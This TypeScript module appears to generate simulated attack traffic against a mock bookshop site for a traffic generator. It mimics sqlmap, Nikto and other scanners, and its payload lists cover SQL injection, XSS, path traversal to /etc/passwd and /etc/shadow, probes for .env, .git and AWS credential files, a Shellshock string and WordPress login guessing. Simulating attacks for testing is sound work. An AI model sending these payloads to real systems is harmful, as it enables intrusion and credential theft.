import { type Random, weighted } from '../random.ts'
import { BOOKS } from '../site/catalogue.ts'
import { browserAgent } from './agents.ts'
import { addressIn, COUNTRIES } from './countries.ts'
import { type Session, type Step, type StepOptions, step, type Visitor } from './step.ts'

type Shot = (random: Random) => { target: string } & StepOptions

interface Tool {
  readonly weight: number
  readonly agent: (random: Random) => string
  readonly shots: readonly Shot[]
}

const INJECTIONS = [
  "1' OR '1'='1",
  "1' AND 5763=5763-- -",
  "' UNION ALL SELECT NULL,NULL,CONCAT(0x7171,user(),0x7171)-- -",
  '1;SELECT PG_SLEEP(5)--',
  '1) AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))-- x',
  "admin'/**/OR/**/SLEEP(5)#",
  '-1 UNION SELECT table_name FROM information_schema.tables',
]
const SCRIPTS = [
  '"><script>alert(1)</script>',
  '\'"()&%<acx><ScRiPt >prompt(973284)</ScRiPt>',
  '<svg/onload=alert(document.domain)>',
  'javascript:domxssExecutionSink(1,"\'\\"><xsstag>()locxss")',
]
const CLIMBS = [
  '/static/../../../../etc/passwd',
  '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/product/..%5c..%5c..%5cwindows%5cwin.ini',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/product/%2e%2e/%2e%2e/%2e%2e/etc/shadow%00.jpg',
]
const DOORS = [
  '/wp-login.php',
  '/wp-admin/setup-config.php',
  '/xmlrpc.php',
  '/.env',
  '/.env.production',
  '/.git/config',
  '/.aws/credentials',
  '/phpmyadmin/index.php',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/actuator/env',
  '/server-status',
  '/backup.zip',
  '/db.sql.gz',
  '/manager/html',
  '/HNAP1/',
  '/boaform/admin/formLogin',
  '/solr/admin/info/system',
]
const SHELLSHOCK = '() { :; }; echo; /bin/cat /etc/passwd'

const scanner = (text: string) => () => text

const TOOLS: readonly Tool[] = [
  {
    weight: 3,
    agent: scanner('sqlmap/1.9.11#stable (https://sqlmap.org)'),
    shots: [inject, inject, injectProduct],
  },
  {
    weight: 2,
    agent: scanner('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)'),
    shots: [door, door, climb, script, shellshock],
  },
  { weight: 3, agent: browserAgent, shots: [inject, script, climb, door, fakeReferrer] },
  {
    weight: 3,
    agent: scanner(
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36',
    ),
    shots: [door, login, door],
  },
  { weight: 1, agent: scanner('Mozilla/5.0 zgrab/0.x'), shots: [door, climb] },
  { weight: 1, agent: scanner(SHELLSHOCK), shots: [shellshock, climb] },
]

const pickTool = weighted(TOOLS)

/** One burst: a single address, 10 to 30 seconds, `perSecond` requests a second. */
export function* attack(random: Random, perSecond: number): Session {
  const tool = pickTool(random)
  const attacker = { agent: tool.agent(random), address: addressIn(random.pick(COUNTRIES), random, 0) }
  const count = Math.max(20, Math.round(random.between(10, 30) * perSecond))
  for (let at = 0; at < count; at++) {
    yield shoot(attacker, random.wait(1 / perSecond), random.pick(tool.shots)(random))
  }
}

function shoot(attacker: Visitor, pause: number, shot: ReturnType<Shot>): Step {
  return step(attacker, pause, shot.target, shot)
}

/** Scanners escape what HTTP can't carry and leave quotes and angle brackets as they are, half of the time. */
function payload(text: string, random: Random): string {
  if (random.chance(0.5)) return encodeURIComponent(text)
  return text.replace(/[^\x21-\x7e]|[#%]/g, (found) => encodeURIComponent(found))
}

function inject(random: Random): ReturnType<Shot> {
  const value = payload(random.pick(INJECTIONS), random)
  return { target: `/${random.pick(['search?q', 'recommendation?user', 'checkout/thanks?order'])}=${value}` }
}

function injectProduct(random: Random): ReturnType<Shot> {
  return { target: `/product/${random.pick(BOOKS).slug}?id=${payload(random.pick(INJECTIONS), random)}` }
}

function script(random: Random): ReturnType<Shot> {
  return { target: `/search?q=${payload(random.pick(SCRIPTS), random)}` }
}

function climb(random: Random): ReturnType<Shot> {
  return { target: random.pick(CLIMBS) }
}

function door(random: Random): ReturnType<Shot> {
  return { target: random.pick(DOORS), method: random.chance(0.1) ? 'HEAD' : 'GET' }
}

function login(random: Random): ReturnType<Shot> {
  return {
    target: random.pick(['/wp-login.php', '/xmlrpc.php']),
    method: 'POST',
    body: `log=admin&pwd=${random.below(1e6)}`,
  }
}

function shellshock(random: Random): ReturnType<Shot> {
  return {
    target: `/cgi-bin/${random.pick(['test.cgi', 'status', 'bash'])}`,
    referer: SHELLSHOCK,
    headers: { cookie: SHELLSHOCK },
  }
}

function fakeReferrer(random: Random): ReturnType<Shot> {
  return { target: '/', referer: `http://example.com/"'><${random.pick(['acx', 'img src=x'])}>` }
}
